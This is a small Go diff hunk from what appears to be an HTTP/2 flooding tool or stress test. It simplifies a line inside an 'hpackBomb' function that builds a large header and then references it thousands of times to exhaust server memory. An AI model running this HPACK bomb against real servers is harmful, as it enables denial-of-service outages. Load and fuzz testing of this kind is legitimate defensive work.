@@ -253,7 +253,7 @@ func (f *flooder) hpackBomb(c net.Conn) {
 	const indexed, first, literalIndexed = 0x80, 62, 0x40
 	value := strings.Repeat("b", 4000)
 	begin := f.plainFields()
-	begin = append(append(hpackInteger(append(begin, literalIndexed, 1, 'a'), 7, len(value)), value...))
+	begin = append(hpackInteger(append(begin, literalIndexed, 1, 'a'), 7, len(value)), value...)
 	bomb := append(f.plainFields(), bytes.Repeat([]byte{indexed | first}, 14<<10)...)
 	f.many(c, f.size, func(fr *http2.Framer, i int) error {
 		if i == 0 {
